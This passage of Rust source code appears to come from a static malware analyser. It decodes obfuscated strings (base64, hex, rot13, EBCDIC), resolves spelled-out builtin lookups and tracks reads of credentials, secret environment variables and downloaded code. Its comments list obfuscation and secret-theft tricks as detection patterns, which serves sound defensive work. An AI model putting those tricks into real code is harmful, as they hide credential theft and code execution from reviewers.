                        let obj = self.resolve_obj(c.args.first()?)?;
                        let name = self.fold(c.args.get(1)?)?;
                        if is_builtins_object(&obj) {
                            return Some(name);
                        }
                        Some(format!("{obj}.{name}"))
                    }
                    // `__builtins__.get("exec")` is the builtin itself.
                    _ if builtins_lookup(&callee) => self.fold(c.args.first()?),
                    // `vars(os)` is the namespace of `os`: its members are `os`'s.
                    "vars" if c.args.len() == 1 => self.resolve_obj(&c.args[0]),
                    _ => Some(callee),
                }
            }
            Expr::Str(_) | Expr::Template(_) | Expr::Percent(..) => Some("str".into()),
            Expr::PathJoin(..) => Some("pathlib.Path".into()),
            Expr::Index(o, k) => {
                // `[name, value][1]`: an item of a literal list.
                if let Some(item) = literal_item(e) {
                    return self.resolve_obj(item);
                }
                // `global['req'+'uire']` and `obj["exec"]` name members too.
                let obj = self.resolve_obj(o)?;
                if is_builtins_object(&obj) {
                    // `globals()["__builtins__"]`, `builtins.__dict__["exec"]`.
                    return self.fold(k);
                }
                Some(member(obj, &self.fold(k)?))
            }
            _ => Some("?".into()),
        }
    }

    fn callee(&self, func: &Expr) -> String {
        match func {
            Expr::Name(_) | Expr::Attr(..) => self.resolve(func),
            Expr::Index(..) | Expr::Call(_) => self.resolve_obj(func),
            _ => None,
        }
        .unwrap_or_else(|| "?".into())
    }

    /// Constant folding: the text a value evaluates to, with `{?}` for unknown parts.
    fn fold(&self, e: &Expr) -> Option<String> {
        let s = match e {
            Expr::Str(s) => s.clone(),
            Expr::Int(i) => i.to_string(),
            Expr::Name(_) | Expr::Attr(..) => {
                if let (Expr::Name(n), Some(frame)) = (e, self.frame.borrow().as_ref()) {
                    if let Some(v) = frame.get(n) {
                        return v.clone();
                    }
                }
                let key = self.key(e)?;
                if let Some(c) = self.scoped_get(&self.consts, &key) {
                    return Some(c.clone());
                }
                let name = self.resolve(e)?;
                if name == "sys.executable" {
                    return Some("python".into());
                }
                return env_var_text(&name);
            }
            Expr::Concat(parts) | Expr::Template(parts) => self.fold_parts(parts)?,
            Expr::Reversed(x) => self.fold(x)?.chars().rev().collect(),
            Expr::Decoded(x) => self.fold(x)?,
            Expr::PathJoin(a, b) => join_path(&self.fold_or_hole(a), &self.fold_or_hole(b)),
            Expr::Percent(f, args) => {
                let fmt = self.fold(f)?;
                let vals: Vec<String> = match args.as_ref() {
                    Expr::Seq(items) => items.iter().map(|i| self.fold_or_hole(i)).collect(),
                    other => vec![self.fold_or_hole(other)],
                };
                percent_format(&fmt, &vals)
            }
            Expr::Index(o, k) => {
                // `codecs.getencoder("utf-8")(text)[0]`: an encoder's result tuple starts
                // with the text itself.
                if let (Expr::Call(c), Expr::Int(0)) = (o.as_ref(), k.as_ref()) {
                    if matches!(c.func, Expr::Call(_))
                        && self.callee(&c.func).starts_with("codecs.get")
                    {
                        return self.fold(c.args.first()?);
                    }
                }
                if let Some(item) = literal_item(e) {
                    return self.fold(item);
                }
                if let Expr::Name(n) = o.as_ref() {
                    if let Some(items) = self.arrays.get(n) {
                        let i: usize = self.fold(k)?.parse().ok()?;
                        return items.get(i)?.clone();
                    }
                }
                let obj = self.resolve(o)?;
                if is_env_object(&obj) {
                    return env_var_text(&format!("{obj}.{}", self.fold(k)?));
                }
                return None;
            }
            Expr::Call(c) => self.fold_call(c)?,
            _ => return None,
        };
        Some(cap(s))
    }

    fn fold_or_hole(&self, e: &Expr) -> String {
        self.fold(e).unwrap_or_else(|| "{?}".into())
    }

    fn fold_parts(&self, parts: &[Expr]) -> Option<String> {
        let folded: Vec<Option<String>> = parts.iter().map(|p| self.fold(p)).collect();
        if folded.iter().all(Option::is_none) {
            return None;
        }
        let mut s = String::new();
        for f in folded {
            s.push_str(f.as_deref().unwrap_or("{?}"));
            if s.len() > MAX_FOLDED {
                break;
            }
        }
        Some(s)
    }

    /// Calls whose result is known from their constant arguments: path building, home
    /// directory lookups, decoding, string methods.
    /// The value of `eval("<expression>")` when the expression's own value folds: the
    /// string is parsed in the file's language and folded in the same environment.
    fn fold_eval(&self, code: &str) -> Option<String> {
        let parse = self.parse_expr?;
        if code.len() > 4096 || self.eval_depth.get() >= MAX_EVAL_NESTING {
            return None;
        }
        let expr = parse(code)?;
        self.eval_depth.set(self.eval_depth.get() + 1);
        let value = self.fold(&expr);
        self.eval_depth.set(self.eval_depth.get() - 1);
        value
    }

    fn fold_call(&self, c: &Call) -> Option<String> {
        let callee = self.callee(&c.func);
        let arg = |i: usize| c.args.get(i).and_then(|a| self.fold(a));
        let receiver = || match &c.func {
            Expr::Attr(o, _) => self.fold(o),
            Expr::Name(n) => self.receivers.get(n).cloned(),
            _ => None,
        };
        let method = callee.rsplit('.').next().unwrap_or("");
        match callee.as_str() {
            "os.path.join"
            | "posixpath.join"
            | "ntpath.join"
            | "path.join"
            | "path.resolve"
            | "File.join"
            | "pathlib.Path"
            | "pathlib.PurePath"
            | "pathlib.PosixPath"
            | "pathlib.WindowsPath" => {
                let parts: Vec<String> = c.args.iter().map(|a| self.fold_or_hole(a)).collect();
                if parts.iter().all(|p| p == "{?}") {
                    return None;
                }
                Some(
                    parts
                        .iter()
                        .skip(1)
                        .fold(parts.first()?.clone(), |acc, p| join_path(&acc, p)),
                )
            }
            "os.path.expanduser" | "os.path.expandvars" | "os.path.abspath"
            | "os.path.normpath" | "os.path.realpath" | "File.expand_path" | "str" | "String"
            | "bytes" | "os.fsencode" | "compile" | "builtins.compile" => arg(0),
            // `new URL(text)` stands for the address it parses; one relative to a base is unknown.
            "URL" | "URI" | "URI.parse" if c.args.len() == 1 => arg(0),
            "pathlib.Path.home" | "os.homedir" | "Dir.home" | "os.path.expanduser.home" => {
                Some("~".into())
            }
            "tempfile.gettempdir" | "os.tmpdir" | "Dir.tmpdir" => Some("/tmp".into()),
            "os.getenv" | "os.environ.get" | "ENV.fetch" => {
                env_var_text(&format!("os.environ.{}", arg(0)?))
            }
            "eval" => self.fold_eval(&arg(0)?),
            "chr" | "String.fromCharCode" => {
                let chars: Option<String> = c
                    .args
                    .iter()
                    .map(|a| match a {
                        Expr::Int(i) => u32::try_from(*i).ok().and_then(char::from_u32),
                        _ => None,
                    })
                    .collect();
                chars
            }
            "base64.b64decode"
            | "base64.decodebytes"
            | "base64.decodestring"
            | "atob"
            | "Base64.decode64"
            | "Base64.strict_decode64" => self.decoded(decode_base64(&arg(0)?)),
            "bytes.fromhex" | "binascii.unhexlify" | "binascii.a2b_hex" => {
                self.decoded(decode_hex(&arg(0)?))
            }
            // `new Buffer(s, "base64")`, the constructor Node deprecated, decodes alike.
            // `Buffer.from([0x73, 0x68])` holds the bytes of text.
            "Buffer.from" | "Buffer" if matches!(c.args.first(), Some(Expr::Seq(_))) => {
                let Some(Expr::Seq(items)) = c.args.first() else {
                    return None;
                };
                let text: Option<String> = items
                    .iter()
                    .map(|b| match b {
                        Expr::Int(i) => u8::try_from(*i).ok().map(char::from),
                        _ => None,
                    })
                    .collect();
                self.decoded(text)
            }
            "Buffer.from" | "Buffer" => match arg(1).as_deref() {
                Some("base64") => self.decoded(decode_base64(&arg(0)?)),
                Some("hex") => self.decoded(decode_hex(&arg(0)?)),
                _ => arg(0),
            },
            "codecs.decode" if arg(1).as_deref().is_some_and(|e| e.starts_with("rot")) => {
                self.decoded(Some(rot13(&arg(0)?)))
            }
            // EBCDIC code pages: `codecs.decode(b"\x85\xa5\x81\x93", "cp1026")` is `eval`.
            "codecs.decode" if arg(1).as_deref().and_then(ebcdic::table).is_some() => {
                let table = ebcdic::table(&arg(1)?)?;
                self.decoded(ebcdic::decode(&arg(0)?, table))
            }
            _ if self.local_defs.contains(&callee) => self.fold_local_call(c),
            _ => match method {
                "join"
                    if matches!(c.func, Expr::Attr(ref o, _) if matches!(**o, Expr::Str(_) | Expr::Name(_)))
                        || matches!(c.func, Expr::Name(ref n) if self.receivers.contains_key(n)) =>
                {
                    let sep = receiver()?;
                    match c.args.first()? {
                        Expr::Seq(items) => {
                            let parts: Vec<String> =
                                items.iter().map(|i| self.fold_or_hole(i)).collect();
                            Some(parts.join(&sep))
                        }
                        // Characters spelled by codes (`[chr(c) for c in [...]]`).
                        Expr::Decoded(x) => match x.as_ref() {
                            Expr::Str(t) => {
                                let chars: Vec<String> = t.chars().map(String::from).collect();
                                Some(chars.join(&sep))
                            }
                            _ => None,
                        },
                        _ => None,
                    }
                }
                "format" => {
                    let fmt = receiver()?;
                    let vals: Vec<String> = c.args.iter().map(|a| self.fold_or_hole(a)).collect();
                    Some(brace_format(&fmt, &vals))
                }
                "decode" if arg(0).as_deref().and_then(ebcdic::table).is_some() => {
                    let table = ebcdic::table(&arg(0)?)?;
                    self.decoded(ebcdic::decode(&receiver()?, table))
                }
                "decode" | "encode" | "strip" | "lstrip" | "rstrip" | "trim" | "toString"
                | "lower" | "to_s" => receiver(),
                "replace" | "replaceAll" | "gsub" => {
                    let (r, from, to) = (receiver()?, arg(0)?, arg(1).unwrap_or_default());
                    if from.is_empty() {
                        return Some(r);
                    }
                    Some(cap(r.replace(&from, &to)))
                }
                "expanduser" | "resolve" | "absolute" => receiver(),
                "joinpath" | "join" => {
                    let mut acc = receiver()?;
                    for a in &c.args {
                        acc = join_path(&acc, &self.fold_or_hole(a));
                    }
                    Some(acc)
                }
                _ => None,
            },
        }
    }

    /// Data-flow labels of a value: what it may carry from downloads, decoders, the environment.
    fn labels_of(&self, e: &Expr) -> Labels {
        let mut l = Labels::default();
        match e {
            Expr::Name(_) | Expr::Attr(..) => {
                l.add(self.path_labels(e));
                // What was stored into the object's members (`d.env = process.env`,
                // `chunks.push(c)`) travels with the object used whole.
                if let Some(k) = self.key(e) {
                    l.add(self.member_labels(&k));
                }
            }
            Expr::Call(c) => {
                l.add(self.result_labels(&c.func, &c.args));
                if self.local_call_decodes(c) {
                    l.add(Labels::DECODED);
                }

                if self.reads_secret(c) {
                    l.add(Labels::SECRET);
                }
                if self.reads_file(c) {
                    l.add(Labels::FILE);
                }
                // Spawning a command captures its output, which carries what the command did.
                for a in c.args.iter().chain(c.kwargs.iter().map(|(_, v)| v)) {
                    l.add(self.labels_of(a));
                }
            }
            Expr::ResultOf(func, first) => {
                let args = first.as_deref().map(std::slice::from_ref).unwrap_or(&[]);
                l.add(self.result_labels(func, args));
                // `fs.readFile(cred, (err, data) => ...)`: `data` is the file's content.
                if self.reads_secret_with(func, args) {
                    l.add(Labels::SECRET);
                }
                if self.reads_file_with(func, args, &[]) {
                    l.add(Labels::FILE);
                }
            }
            Expr::Decoded(x) => {
                l.add(self.labels_of(x));
                l.add(Labels::DECODED);
            }
            Expr::Index(o, k) => {
                l.add(self.labels_of(o));
                l.add(self.labels_of(k));
                if self.resolve(o).is_some_and(|n| is_env_object(&n)) {
                    l.0 &= !Labels::ENV.0; // one named variable is not the whole environment
                    if self.fold(k).is_some_and(|v| sensitive::is_secret_env(&v)) {
                        l.add(Labels::SECRET);
                    }
                } else if self
                    .resolve_obj(e)
                    .is_some_and(|n| catalog::kinds(&n).has(Kinds::ENVALL))
                {
                    // `process['en' + 'v']` is `process.env`, spelled to be missed.
                    l.add(Labels::ENV);
                }
            }
            Expr::Reversed(x) | Expr::PathJoin(x, _) => l.add(self.labels_of(x)),
            Expr::Percent(a, b) => {
                l.add(self.labels_of(a));
                l.add(self.labels_of(b));
            }
            Expr::Concat(xs) | Expr::Template(xs) | Expr::Seq(xs) | Expr::Other(xs) => {
                for x in xs {
                    l.add(self.labels_of(x));
                }
            }
            Expr::Dict(kv) => {
                for (k, v) in kv {
                    l.add(self.labels_of(k));
                    l.add(self.labels_of(v));
                }
            }
            Expr::Str(_) | Expr::Int(_) | Expr::Lambda(_) => {}
        }
        l
    }

    /// Labels of a name or attribute chain from its own bindings and what it names
    /// (`os.environ`), and, for a member, from the object it is a member of.
    fn path_labels(&self, e: &Expr) -> Labels {
        let mut l = Labels::default();
        if let Some(k) = self.key(e) {
            l.add(
                self.scoped_get(&self.labels, &k)
                    .copied()
                    .unwrap_or_default(),
            );
        }
        if let Some(name) = self.resolve(e) {
            if catalog::kinds(&name).has(Kinds::ENVALL) {
                l.add(Labels::ENV);
            }
        }
        if let Expr::Attr(o, var) = e {
            // `process.env.NPM_TOKEN` is one variable: a secret, or nothing.
            if self.resolve(o).is_some_and(|n| is_env_object(&n)) {
                if sensitive::is_secret_env(var) {
                    l.add(Labels::SECRET);
                }
            } else if matches!(**o, Expr::Name(_) | Expr::Attr(..)) {
                // One member of an object does not carry what its other members hold.
                l.add(self.path_labels(o));
            } else {
                l.add(self.labels_of(o));
            }
        }
        l
    }

    /// The labels stored into members of the object `key` names (see `labels_of`).
    fn member_labels(&self, key: &str) -> Labels {
        if self.member_stores.is_empty() {
            return Labels::default();
        }
        self.member_stores.get(key).copied().unwrap_or_default()
    }

    /// Labels of what calling `func` returns: from what the callee does, and from the
    /// object it is called on (`resp.read()` carries what `resp` carries). Decoding is
    /// hiding only when what is decoded was shipped as a constant: decoding runtime data
    /// (a source map, a network reply, characters a parser read) is ordinary.
    fn result_labels(&self, func: &Expr, args: &[Expr]) -> Labels {
        let first_arg = args.first();
        let callee = self.callee(func);
        // `os.environ.get("X")` reads one variable, not the whole environment.
        let one_variable = matches!(
            callee.as_str(),
            "os.environ.get" | "os.getenv" | "ENV.fetch"
        );
        let mut l = if one_variable {
            Labels::default()
        } else {
            self.labels_of(func)
        };
        if let Some(returned) = self.labels.get(&result_key(&callee)) {
            l.add(*returned);
        }
        let k = self.kinds_of(&callee);
        for (kind, label) in [
            (Kinds::DOWNLOAD, Labels::DOWNLOADED),
            (Kinds::RECEIVE, Labels::DOWNLOADED.or(Labels::RECEIVED)),
            (Kinds::HOSTINFO, Labels::HOSTINFO),
            (Kinds::ENVALL, Labels::ENV),
        ] {
            if k.has(kind) {
                l.add(label);
            }
        }
        let decodes = (k.has(Kinds::DECODE) && !self.buffer_of_text(&callee, args))
            || self.decoders.contains(&callee);
        match first_arg {
            Some(a) if decodes && self.is_constant(a) => l.add(Labels::DECODED),
            Some(_) if decodes => l.add(Labels::DECODER_OUTPUT),
            _ => {}
        }
        l
    }

    /// True for `Buffer.from(text)` / `new Buffer(text, "utf16le")`: a buffer of text in
    /// a text encoding holds the text itself, nothing decoded (the `open` package builds
    /// a PowerShell `-EncodedCommand` this way, by encoding). Byte lists and the
    /// base64 and hex encodings do decode.
    fn buffer_of_text(&self, callee: &str, args: &[Expr]) -> bool {
        if !matches!(callee, "Buffer.from" | "Buffer") {
            return false;
        }
        let encoding = args.get(1).and_then(|a| self.fold(a));
        let decodes = matches!(
            encoding.as_deref().map(str::to_ascii_lowercase).as_deref(),
            Some("base64" | "base64url" | "hex")
        );
        !decodes && !matches!(args.first(), Some(Expr::Seq(_)))
    }

    /// What a call named `callee` can do; nothing for a function the file defines.
    fn kinds_of(&self, callee: &str) -> Kinds {
        if !callee.contains('.') && self.local_defs.contains(callee) {
            return Kinds::default();
        }
        catalog::kinds(callee)
    }

    /// True for a value fully known from the source: a folded text with no unknown part,
    /// or a list of such values (`Buffer.from([101, 118, 97, 108])`).
    fn is_constant(&self, e: &Expr) -> bool {
        match e {
            Expr::Seq(items) => !items.is_empty() && items.iter().all(|i| self.is_constant(i)),
            Expr::Decoded(_) => true,
            _ => self.fold(e).is_some_and(|t| !t.contains("{?}")),
        }
    }

    /// True when an expression calls a decoder (catalogued, or a local wrapper of one).
    fn calls_decoder(&self, e: &Expr) -> bool {
        match e {
            Expr::Call(c) => {
                let callee = self.callee(&c.func);
                self.kinds_of(&callee).has(Kinds::DECODE)
                    || self.decoders.contains(&callee)
                    || self.calls_decoder(&c.func)
                    || c.args.iter().any(|a| self.calls_decoder(a))
            }
            Expr::Attr(x, _) | Expr::Reversed(x) => self.calls_decoder(x),
            Expr::Concat(xs) | Expr::Template(xs) | Expr::Other(xs) => {
                xs.iter().any(|x| self.calls_decoder(x))
            }
            _ => false,
        }
    }

    /// A call that opens a credential file or reads a secret environment variable.
    fn reads_secret(&self, c: &Call) -> bool {
        self.reads_secret_with(&c.func, &c.args)
    }

    /// [`Self::reads_secret`] of a call of `func` with `args`.
    fn reads_secret_with(&self, func: &Expr, args: &[Expr]) -> bool {
        let callee = self.callee(func);
        if matches!(
            callee.as_str(),
            "os.getenv" | "os.environ.get" | "ENV.fetch"
        ) {
            return args
                .first()
                .and_then(|a| self.fold(a))
                .is_some_and(|v| sensitive::is_secret_env(&v));
        }
        if !self.kinds_of(&callee).has(Kinds::READ) {
            return false;
        }
        let receiver = match func {
            Expr::Attr(o, _) => self.fold(o),
            _ => None,
        };
        args.first()
            .and_then(|a| self.fold(a))
            .into_iter()
            .chain(receiver)
            .any(|t| sensitive::credential_path(&t).is_some())
    }

    /// A call that reads a file's content or opens it for reading (`open(p, "rb")`,
    /// `Path(p).read_bytes()`, `fs.readFileSync(p)`); listing folders does not count.
    fn reads_file(&self, c: &Call) -> bool {
        self.reads_file_with(&c.func, &c.args, &c.kwargs)
    }

    /// [`Self::reads_file`] of a call of `func` with `args` and `kwargs`.
    fn reads_file_with(&self, func: &Expr, args: &[Expr], kwargs: &[(String, Expr)]) -> bool {
        let callee = self.callee(func);
        if !FILE_OPENS.contains(&callee.as_str()) {
            return reads_file_content(&callee);
        }
        let mode = args
            .get(1)
            .or_else(|| kwargs.iter().find(|(k, _)| k == "mode").map(|(_, v)| v))
            .and_then(|m| self.fold(m))
            .unwrap_or_else(|| "r".into());
        !mode.contains(['w', 'a', 'x', '+'])
    }

    fn value(&self, e: &Expr) -> Value {
        let name = match e {
            Expr::Name(_) | Expr::Attr(..) => self.resolve(e),
            _ => None,
        };
        let mut names = Vec::new();
        self.names_in(e, &mut names);
        Value {
            text: self.fold(e),
            name,
            names,
            labels: self.labels_of(e),
        }
    }

    /// Collects the resolved names an expression mentions (at most 16).
    fn names_in(&self, e: &Expr, out: &mut Vec<String>) {
        if out.len() >= 16 {
            return;
        }
        match e {
            Expr::Name(_) | Expr::Attr(..) => out.extend(self.resolve(e)),
            // What a call returns is named by the call (`s.recv(1024)` is
            // `socket.socket.recv`); its arguments are not part of the value.
            Expr::Call(_) => out.extend(self.resolve_obj(e)),
            Expr::Concat(xs) | Expr::Template(xs) | Expr::Seq(xs) | Expr::Other(xs) => {
                xs.iter().for_each(|x| self.names_in(x, out))
            }
            Expr::Index(a, b) => {
                // `process["env"]` names `process.env`.
                if self.fold(b).is_some_and(|k| is_identifier(&k)) {
                    out.extend(self.resolve_obj(e).filter(|n| n != "?"));
                }
                self.names_in(a, out);
                self.names_in(b, out);
            }
            Expr::PathJoin(a, b) | Expr::Percent(a, b) => {
                self.names_in(a, out);
                self.names_in(b, out);
            }
            _ => {}
        }
    }

    /// Walks statements, recording every call, definition and import.
    fn collect(
        &self,
        body: &[Stmt],
        scope: &str,
        facts: &mut FileFacts,
        classes: &mut HashSet<String>,
    ) {
        for s in body {
            match s {
                Stmt::Import { module, line, .. } => facts.imports.push((module.clone(), *line)),
                Stmt::ImportFrom {
                    module, name, line, ..
                } => {
                    if module.is_empty() {
                        facts.imports.push((name.clone(), *line));
                    } else {
                        facts.imports.push((module.clone(), *line));
                        // `from .pkg import mod` may load the submodule `pkg/mod.py`
                        // (the only way in when `pkg` has no `__init__.py`).
                        if name != "*" {
                            let sep = if module.ends_with('.') { "" } else { "." };
                            facts.imports.push((format!("{module}{sep}{name}"), *line));
                        }
                    }
                }
                Stmt::Assign { targets, value, .. } => {
                    for t in targets {
                        self.calls_in(t, scope, facts, classes);
                    }
                    self.calls_in(value, scope, facts, classes);
                }
                Stmt::Eval { value, .. } | Stmt::Return { value, .. } => {
                    self.calls_in(value, scope, facts, classes)
                }
                Stmt::Def {
                    name,
                    kind,
                    bases,
                    body,
                    line,
                    ..
                } => {
                    let inner = if scope.is_empty() {
                        name.clone()
                    } else {
                        format!("{scope}.{name}")
                    };
                    if *kind == DefKind::Class {
                        classes.insert(inner.clone());
                    }
                    facts.defs.push(DefFact {
                        name: name.clone(),
                        kind: *kind,
                        bases: bases.iter().filter_map(|b| self.resolve(b)).collect(),
                        line: *line,
                        scope: inner.clone(),
                    });
                    for b in bases {
                        self.calls_in(b, scope, facts, classes);
                    }
                    let outer = self.enter(name);
                    self.collect(body, &inner, facts, classes);
                    *self.scope.borrow_mut() = outer;
                }
            }
        }
    }

    fn calls_in(
        &self,
        e: &Expr,
        scope: &str,
        facts: &mut FileFacts,
        classes: &mut HashSet<String>,
    ) {
        match e {
            Expr::Call(c) => {
                self.record_call(c, scope, facts);
                if let Some(handed) = self.handed_off(c) {
                    self.record_call(&handed, scope, facts);
                }
                self.calls_in(&c.func, scope, facts, classes);
                for a in c.args.iter().chain(c.kwargs.iter().map(|(_, v)| v)) {
                    self.calls_in(a, scope, facts, classes);
                }
            }
            Expr::Attr(o, _) | Expr::Reversed(o) => self.calls_in(o, scope, facts, classes),
            Expr::Index(a, b) | Expr::PathJoin(a, b) | Expr::Percent(a, b) => {
                self.calls_in(a, scope, facts, classes);
                self.calls_in(b, scope, facts, classes);
            }
            Expr::Concat(xs) | Expr::Template(xs) | Expr::Seq(xs) | Expr::Other(xs) => {
                for x in xs {
                    self.calls_in(x, scope, facts, classes);
                }
            }
            Expr::Dict(kv) => {
                for (k, v) in kv {
                    if let (Some(key), Some(val)) = (self.fold(k), self.resolve(v)) {
                        facts.dict_entries.push((key, val));
                    }
                    self.calls_in(k, scope, facts, classes);
                    self.calls_in(v, scope, facts, classes);
                }
            }
            Expr::Lambda(body) => self.collect(body, scope, facts, classes),
            Expr::Decoded(x) => self.calls_in(x, scope, facts, classes),
            Expr::Str(_) | Expr::Int(_) | Expr::Name(_) | Expr::ResultOf(..) => {}
        }
    }

    fn record_call(&self, c: &Call, scope: &str, facts: &mut FileFacts) {
        if let Some(name) = self.hidden_lookup(c) {
            facts.hidden_lookups.push((name, c.line));
        }
        let callee = self.callee(&c.func);
        // `exports.x = require("./js/x")` and a bare `require("./x")` load the module
        // as much as `const x = require("./x")` does.
        if matches!(callee.as_str(), "require" | "module.require") {
            if let Some(m) = c.args.first().and_then(|a| self.fold(a)) {
                if !m.contains("{?}") && !facts.imports.iter().any(|(i, _)| *i == m) {
                    facts.imports.push((m, c.line));
                }
            }
        }
        if SETUP_CALLS.contains(&callee.as_str()) {
            facts.requirements.extend(self.install_requires(c));
        }
        let kinds = self.kinds_of(&callee);
        if facts.calls.len() >= MAX_CALLS && kinds == Kinds::default() {
            facts.incomplete.get_or_insert_with(|| {
                format!("calls to uncatalogued functions past the first {MAX_CALLS} were not kept")
            });
            return;
        }
        let receiver = match &c.func {
            Expr::Attr(o, _) => Some(self.value(o)),
            _ => None,
        };
        let fact = CallFact {
            callee,
            kinds,
            args: c.args.iter().map(|a| self.value(a)).collect(),
            kwargs: c
                .kwargs
                .iter()
                .map(|(k, v)| (k.clone(), self.value(v)))
                .collect(),
            receiver,
            line: c.line,
            scope: scope.to_string(),
            on_load: false,
            on_main: false,
            shell: None,
            indirection: self.indirection(c),
        };
        let mut fact = fact;
        if kinds.has(Kinds::DOWNLOAD.or(Kinds::SEND)) {
            self.request_method(c, &mut fact);
            self.request_address(c, &mut fact);
        }
        let cwd = self.workdir(scope);
        if let Some(cwd) = &cwd {
            at_workdir(&mut fact, cwd);
        }
        if workdir::CHDIR_CALLS.contains(&fact.callee.as_str()) {
            if let Some(dir) = fact.args.first().and_then(|a| a.text.clone()) {
                self.cwd.borrow_mut().insert(scope.to_string(), dir);
            }
        }
        if kinds.has(Kinds::SPAWN) {
            if let Some(line) = self.command_line(c) {
                facts
                    .calls
                    .extend(shell_calls(&line, &fact, cwd.as_deref()));
            }
        }
        facts.calls.push(fact);
    }

    /// How `c` names its function, when not plainly: the strongest hiding found along
    /// the called expression (`os.__dict__["sys"+"tem"]` is spelled).
    fn indirection(&self, c: &Call) -> Option<Indirection> {
        let key = |k: &Expr| match k {
            Expr::Str(_) | Expr::Int(_) | Expr::Name(_) | Expr::Attr(..) => Indirection::Reflected,
            _ => Indirection::Spelled,
        };
        let mut how = c.reflective.then_some(Indirection::Reflected);
        let mut e = &c.func;
        loop {
            match e {
                Expr::Attr(o, _) => e = o,
                Expr::Index(..) if literal_item(e).is_some() => {
                    e = literal_item(e).unwrap_or(e);
                }
                Expr::Index(o, k) => {
                    // Only a key that names a member (`cp["exec"]`), not an item
                    // (`ws["!links"]`, `xs[0]`), on something the analysis can name.
                    let names_member = self.fold(k).is_some_and(|k| is_identifier(&k))
                        && !matches!(k.as_ref(), Expr::Int(_));
                    if names_member && self.resolve_obj(o).is_some_and(|o| o != "?") {
                        how = how.max(Some(key(k)));
                    }
                    e = o;
                }
                Expr::Call(inner) => match self.callee(&inner.func).as_str() {
                    "getattr" if inner.args.len() >= 2 => {
                        how = how.max(Some(key(&inner.args[1])));
                        e = &inner.args[0];
                    }
                    // `__builtins__.get("exec")`, `vars(__builtins__).get(...)`.
                    callee if builtins_lookup(callee) && !inner.args.is_empty() => {
                        how = how.max(Some(key(&inner.args[0])));
                        break;
                    }
                    "__import__" | "importlib.import_module" if !inner.args.is_empty() => {
                        how = how.max(Some(key(&inner.args[0])));
                        break;
                    }
                    _ => break,
                },
                _ => break,
            }
        }
        how
    }

    /// The HTTP method of Node's request options (`{method: 'POST'}`, inline or held in a
    /// variable), kept as the call's `method` keyword like Python's `method=` argument:
    /// a POST sends, it does not download.
    fn request_method(&self, c: &Call, fact: &mut CallFact) {
        if fact.kwarg("method").is_some() {
            return;
        }
        let method = c.args.iter().find_map(|a| match a {
            Expr::Name(_) => self.fold(&Expr::Attr(Box::new(a.clone()), "method".to_string())),
            _ => None,
        });
        if let Some(m) = method {
            fact.kwargs.push((
                "method".into(),
                Value {
                    text: Some(m),
                    ..Value::default()
                },
            ));
        }
    }

    /// Node's request options (`http.request({hostname, port, path})`, inline or held
    /// in a variable) folded to the address they name, kept as the call's `url`
    /// keyword: `https://x.example.com:8443/collect`.
    fn request_address(&self, c: &Call, fact: &mut CallFact) {
        if fact.kwarg("url").is_some() {
            return;
        }
        let field = |name: &str| -> Option<String> {
            if let Some(v) = fact.kwarg(name).and_then(|v| v.text.clone()) {
                return Some(v);
            }
            c.args.iter().find_map(|a| match a {
                Expr::Name(_) => self.fold(&Expr::Attr(Box::new(a.clone()), name.to_string())),
                _ => None,
            })
        };
        let Some(host) = field("hostname").or_else(|| field("host")) else {
            return;
        };
        if host.contains("://") || host.contains('/') {
            return;
        }
        let scheme = match field("protocol") {
            Some(p) => p.trim_end_matches(':').to_string(),
            None if fact.callee.starts_with("https.") => "https".into(),
            None => "http".into(),
        };
        let port = field("port").map(|p| format!(":{p}")).unwrap_or_default();
        let path = field("path")
            .filter(|p| p.starts_with('/'))
            .unwrap_or_default();
        fact.kwargs.push((
            "url".into(),
            Value {
                text: Some(format!("{scheme}://{host}{port}{path}")),
                ..Value::default()
            },
        ));
    }

    /// The working directory calls in `scope` run in: the last `chdir` met in that scope
    /// or, failing one, in an enclosing scope.
    fn workdir(&self, scope: &str) -> Option<String> {
        let cwd = self.cwd.borrow();
        if cwd.is_empty() {
            return None;
        }
        let mut s = scope;
        loop {
            if let Some(dir) = cwd.get(s) {
                return Some(dir.clone());
            }
            s = s.rsplit_once('.').map_or("", |(outer, _)| outer);
            if s.is_empty() {
                return cwd.get("").cloned();
            }
        }
    }

    /// The requirements of a `setup(install_requires=[...])` call whose list is written out,
    /// each folded to constant text; items with unknown parts are left out.
    fn install_requires(&self, c: &Call) -> Vec<(String, u32)> {
        let Some((_, Expr::Seq(items))) = c.kwargs.iter().find(|(k, _)| k == "install_requires")
        else {
            return Vec::new();
        };
        items
            .iter()
            .filter_map(|i| self.fold(i))
            .filter(|r| !r.contains("{?}"))
            .map(|r| (r, c.line))
            .collect()
    }

    /// A builtin or global the call reaches by a name it spells in code rather than
    /// writes: `getattr(builtins, <spelled>)`, `__builtins__.get(<spelled>)`,
    /// `globals()[<spelled>]` in the called expression or an argument. Honest code that
    /// knows the name writes it; code that computes a name from a user's input leaves it
    /// unknown, so only names that fold to a constant count.
    fn hidden_lookup(&self, c: &Call) -> Option<String> {
        let mut lookups: Vec<(&Expr, &Expr)> = Vec::new();
        if self.callee(&c.func) == "getattr" {
            if let [obj, key, ..] = c.args.as_slice() {
                lookups.push((obj, key));
            }
        }
        if let (Expr::Attr(obj, m), Some(key)) = (&c.func, c.args.first()) {
            if matches!(m.as_str(), "get" | "__getitem__" | "__getattribute__") {
                lookups.push((obj, key));
            }
        }
        let mut stack: Vec<&Expr> = vec![&c.func];
        stack.extend(&c.args);
        while let Some(e) = stack.pop() {
            match e {
                Expr::Index(obj, key) => {
                    lookups.push((obj, key));
                    stack.push(obj);
                }
                Expr::Attr(obj, _) => stack.push(obj),
                _ => {}
            }
        }
        lookups.into_iter().find_map(|(obj, key)| {
            let spelled = !matches!(
                key,
                Expr::Str(_) | Expr::Int(_) | Expr::Name(_) | Expr::Attr(..)
            );
            let name = self.fold(key)?;
            let is_name =
                !name.is_empty() && name.chars().all(|ch| ch.is_alphanumeric() || ch == '_');
            let builtins = self
                .resolve_obj(obj)
                .is_some_and(|o| is_builtins_object(&o));
            (spelled && is_name && builtins).then_some(name)
        })
    }

    /// The call a runner makes of a function it is handed, when that function is one the
    /// catalogue knows: `Thread(target=exec, args=(code,))` runs `exec(code)`, and
    /// `atexit.register(os.system, cmd)` runs `os.system(cmd)` at exit. Local functions
    /// handed over are followed by `reachable` instead.
    fn handed_off(&self, c: &Call) -> Option<Call> {
        let runner = self.callee(&c.func);
        if !RUNNERS.contains(&runner.as_str()) {
            return None;
        }
        let kwarg = |name: &str| c.kwargs.iter().find(|(k, _)| k == name).map(|(_, v)| v);
        let (func, args) = match runner.as_str() {
            "atexit.register" => (c.args.first()?.clone(), c.args[1..].to_vec()),
